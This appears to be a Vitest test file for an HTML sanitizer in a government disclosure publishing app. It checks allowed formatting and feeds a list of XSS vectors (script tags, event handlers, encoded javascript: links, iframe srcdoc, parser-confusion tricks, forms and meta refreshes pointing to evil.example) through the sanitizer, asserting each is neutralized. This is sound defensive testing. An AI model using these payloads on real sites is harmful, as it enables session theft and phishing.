import { describe, expect, it } from "vitest";
import { hasUnsafeContent, isBodyEmpty, sanitizeBody } from "@/lib/disclosure/rules/sanitize";

/** Nothing executable may survive, whatever the input. */
function expectInert(html: string) {
  const out = sanitizeBody(html);
  expect(out).not.toMatch(/<script|<iframe|<object|<embed|<svg|<math|<style|<form|<input|<link|<meta|<base/i);
  expect(out).not.toMatch(/\son[a-z]+\s*=/i);
  expect(out).not.toMatch(/javascript:|vbscript:|data:/i);
  expect(out).not.toMatch(/expression\(|url\(/i);
  return out;
}

describe("sanitizeBody — what is kept", () => {
  it("keeps ordinary document structure unchanged", () => {
    const html =
      "<h2>一、总体要求</h2><h3>（一）</h3><h4>1.</h4>" +
      "<p>正文<strong>加粗</strong><em>强调</em><u>下划线</u><span>文字</span><br />换行</p>" +
      "<ul><li>一</li></ul><ol><li>二</li></ol><blockquote>引用</blockquote>" +
      '<table><thead><tr><th colspan="2">表头</th></tr></thead><tbody><tr><td rowspan="2">甲</td><td>乙</td></tr></tbody></table>';
    expect(sanitizeBody(html)).toBe(html);
  });

  it("keeps http(s), mailto, tel and relative links", () => {
    for (const href of [
      "https://www.gov.cn/zhengce/",
      "http://example.gov.cn/a?x=1&amp;y=2",
      "/files/a.pdf",
      "../a.html",
      "#section-2",
      "mailto:gkb@example.gov.cn",
      "tel:0571-12345",
    ]) {
      expect(sanitizeBody(`<a href="${href}">链接</a>`)).toBe(`<a href="${href}">链接</a>`);
    }
  });

  it("keeps images only from http(s) or relative addresses", () => {
    expect(sanitizeBody('<img src="https://www.gov.cn/a.png" alt="图" />')).toBe('<img src="https://www.gov.cn/a.png" alt="图" />');
    expect(sanitizeBody('<img src="/uploads/a.jpg" alt="图" />')).toBe('<img src="/uploads/a.jpg" alt="图" />');
    expect(sanitizeBody('<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">')).toBe('<img alt="x" />');
    expect(sanitizeBody('<img src="ftp://example.com/a.png">')).toBe("<img />");
    expect(sanitizeBody('<img src="mailto:a@b.c">')).toBe("<img />");
  });

  it("keeps text-align and a few typographic styles, drops the rest", () => {
    expect(sanitizeBody('<p style="text-align:center">标题</p>')).toBe('<p style="text-align:center">标题</p>');
    expect(sanitizeBody('<p style="text-indent:2em;text-align:justify">正文</p>')).toBe(
      '<p style="text-indent:2em;text-align:justify">正文</p>',
    );
    expect(sanitizeBody('<span style="font-weight:bold;text-decoration:underline">x</span>')).toBe(
      '<span style="font-weight:bold;text-decoration:underline">x</span>',
    );
    // Hiding text, overlaying the page, or loading resources are not typography.
    expect(sanitizeBody('<p style="color:#fff;position:fixed;top:0;display:none;text-align:left">x</p>')).toBe(
      '<p style="text-align:left">x</p>',
    );
    expect(sanitizeBody('<p style="text-align:center;background:url(https://evil.example/t.gif)">x</p>')).toBe(
      '<p style="text-align:center">x</p>',
    );
    expect(sanitizeBody('<p style="text-align:expression(alert(1))">x</p>')).toBe("<p>x</p>");
  });

  it("maps Word's b/i/h1/h5/h6 onto the allow-list", () => {
    expect(sanitizeBody("<h1>题</h1><b>粗</b><i>斜</i><h5>五</h5><h6>六</h6>")).toBe(
      "<h2>题</h2><strong>粗</strong><em>斜</em><h4>五</h4><h4>六</h4>",
    );
  });

  it("drops unknown tags but keeps their text (pasted Word markup)", () => {
    expect(sanitizeBody('<div class="MsoNormal"><font face="宋体">正文</font><o:p></o:p></div>')).toBe("正文");
  });

  it("drops classes and ids, which could restyle or spoof the site's own UI", () => {
    expect(sanitizeBody('<p class="login-box" id="csrf">x</p>')).toBe("<p>x</p>");
    expect(sanitizeBody('<a href="/x" target="_blank" name="y" title="z">x</a>')).toBe('<a href="/x">x</a>');
  });

  it("escapes text, so entities stay text", () => {
    expect(sanitizeBody("<p>a &lt;b&gt; &amp; c</p>")).toBe("<p>a &lt;b&gt; &amp; c</p>");
    expect(sanitizeBody("<p>1 < 2 > 0</p>")).toBe("<p>1 &lt; 2 &gt; 0</p>");
  });

  it("is idempotent", () => {
    const messy = '<p style="text-align:center;color:red" onclick="x">a<b>b</b><script>c</script></p><img src=javascript:alert(1)>';
    const once = sanitizeBody(messy);
    expect(sanitizeBody(once)).toBe(once);
  });
});

describe("sanitizeBody — hostile input", () => {
  const vectors: [string, string][] = [
    ["script tag", "<p>ok</p><script>alert(document.cookie)</script>"],
    ["script, upper case and attributes", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"],
    ["script split by a nested tag", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
    ["img onerror", '<img src="x" onerror="alert(1)">'],
    ["unquoted event handler", "<img src=x onerror=alert(1)//>"],
    ["event handler on an allowed tag", '<p onmouseover="alert(1)">悬停</p>'],
    ["body onload", '<body onload="alert(1)">'],
    ["svg onload", '<svg onload="alert(1)"><circle r="1"/></svg>'],
    ["svg with script", "<svg><script>alert(1)</script></svg>"],
    ["math href", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
    ["javascript: link", '<a href="javascript:alert(1)">点我</a>'],
    ["javascript: mixed case", '<a href="JaVaScRiPt:alert(1)">点我</a>'],
    ["javascript: with leading space", '<a href=" javascript:alert(1)">点我</a>'],
    ["javascript: with tab inside", '<a href="jav\tascript:alert(1)">点我</a>'],
    ["javascript: entity-encoded", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">点我</a>'],
    ["javascript: hex entities", '<a href="&#x6A;avascript&#x3A;alert(1)">点我</a>'],
    ["javascript: newline entity", '<a href="java&#x0A;script:alert(1)">点我</a>'],
    ["vbscript: link", '<a href="vbscript:msgbox(1)">点我</a>'],
    ["data: link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点我</a>'],
    ["javascript: image", '<img src="javascript:alert(1)">'],
    ["iframe", '<iframe src="https://evil.example"></iframe>'],
    ["iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ["object/embed", '<object data="x.swf"></object><embed src="x.swf">'],
    ["style tag", "<style>body{display:none}</style><p>x</p>"],
    ["style attribute expression", '<p style="width:expression(alert(1))">x</p>'],
    ["style attribute url()", '<p style="background-image:url(javascript:alert(1))">x</p>'],
    [
      "link and meta",
      '<link rel="stylesheet" href="https://evil.example/a.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    ],
    ["base href", '<base href="https://evil.example/">'],
    ["form phishing", '<form action="https://evil.example"><input name="password"><button>登录</button></form>'],
    ["template", "<template><img src=x onerror=alert(1)></template>"],
    ["noscript trick", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
    ["comment trick", "<!--<img src=x onerror=alert(1)>-->"],
    ["attribute breakout", '<a href="/x" title="a" onclick="alert(1)">x</a><p title="x" " onclick="alert(1)">y</p>'],
    ["textarea breakout", "<textarea><script>alert(1)</script></textarea>"],
    ["cdata", "<![CDATA[<script>alert(1)</script>]]>"],
  ];

  for (const [name, html] of vectors) {
    it(`neutralizes ${name}`, () => {
      expectInert(html);
    });
  }

  it("drops protocol-relative links that silently leave the site", () => {
    expect(sanitizeBody('<a href="//evil.example/login">登录</a>')).toBe("<a>登录</a>");
    expect(sanitizeBody('<img src="//evil.example/t.gif">')).toBe("<img />");
  });

  it("keeps the visible text of a neutralized link", () => {
    expect(sanitizeBody('<a href="javascript:alert(1)">点我</a>')).toBe("<a>点我</a>");
  });

  it("drops the content of script, style, iframe and template elements entirely", () => {
    expect(sanitizeBody("<p>a</p><script>var secret=1</script><style>p{}</style><iframe>fallback</iframe><template>t</template>")).toBe(
      "<p>a</p>",
    );
  });
});

describe("isBodyEmpty", () => {
  it("sees editor leftovers as empty", () => {
    for (const html of ["", "   ", "<p></p>", "<p><br></p>", "<p>&nbsp;</p>", "<p>\u3000</p>", "<script>x</script>"]) {
      expect(isBodyEmpty(html)).toBe(true);
    }
  });

  it("sees text or an image as content", () => {
    expect(isBodyEmpty("<p>见附件</p>")).toBe(false);
    expect(isBodyEmpty('<p><img src="/a.png" /></p>')).toBe(false);
  });
});

describe("hasUnsafeContent — whether the clerk is told that the body was cleaned", () => {
  it("is true for scripts, frames, embedded objects, event handlers and javascript: links", () => {
    for (const html of [
      "<p>公告</p><script>alert(1)</script>",
      '<iframe src="https://evil.example/"></iframe>',
      '<object data="x.swf"></object>',
      '<p onclick="steal()">点击</p>',
      '<img src="a.png" onerror="steal()">',
      '<a href="javascript:alert(1)">链接</a>',
      '<a href=" JaVaScRiPt:alert(1)">链接</a>',
    ]) {
      expect(hasUnsafeContent(html), html).toBe(true);
    }
  });

  it("is false for Word junk and other merely disallowed formatting, which is dropped silently", () => {
    for (const html of [
      '<p class="MsoNormal" style="mso-line-height-rule:exactly;font-family:仿宋">正文<o:p></o:p></p>',
      '<p><font face="宋体" color="red">通知</font></p>',
      "<h1>标题</h1><p><b>加粗</b></p>",
      '<p><img src="data:image/png;base64,AAAA"></p>',
      '<p><a href="https://www.gov.cn/">中国政府网</a></p>',
      "根据县政府工作安排，现将计划予以公示。",
    ]) {
      expect(hasUnsafeContent(html), html).toBe(false);
    }
  });
});
